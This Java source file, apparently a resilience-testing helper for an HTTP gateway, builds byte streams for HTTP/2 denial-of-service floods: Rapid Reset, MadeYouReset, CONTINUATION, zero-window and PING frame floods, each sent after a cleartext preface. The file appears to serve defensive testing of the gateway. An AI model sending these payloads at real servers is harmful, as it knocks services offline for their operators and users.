package com.keeptrusts.gateway.ingress;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;

/** What is sent to a server of HTTP/2 to wear it out, beginning in clear text without an upgrade. */
enum Http2Flood {
    RAPID_RESET(0x3, 1, 4),
    MADE_YOU_RESET(0x8, 1, 4),
    CONTINUATION(0x9, 1, 16_384),
    ZERO_WINDOW(0x4, 0, 6),
    PING(0x6, 0, 8);

    static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

    private static final int SETTINGS = 0x4;
    private static final int HEADERS = 0x1;
    private static final int END_STREAM = 0x1;

    private final int type;
    private final int stream;
    private final int length;

    /**
     * @param type of the frame that comes again and again
     */
    Http2Flood(int type, int stream, int length) {
        this.type = type;
        this.stream = stream;
        this.length = length;
    }

    /** The preface, a request whose headers go on, and frames. */
    byte[] bytes(int atLeast) {
        var bytes = new ByteArrayOutputStream(atLeast);
        bytes.writeBytes(PREFACE.getBytes(ISO_8859_1));
        bytes.writeBytes(frame(SETTINGS, 0, 0, 0));
        bytes.writeBytes(frame(HEADERS, END_STREAM, 1, 64));
        byte[] repeated = frame(type, 0, stream, length);
        while (bytes.size() < atLeast) {
            bytes.writeBytes(repeated);
        }
        return bytes.toByteArray();
    }

    private static byte[] frame(int type, int flags, int stream, int length) {
        return ByteBuffer.allocate(9 + length)
                .putInt(length << 8 | type)
                .put((byte) flags)
                .putInt(stream)
                .array();
    }
}
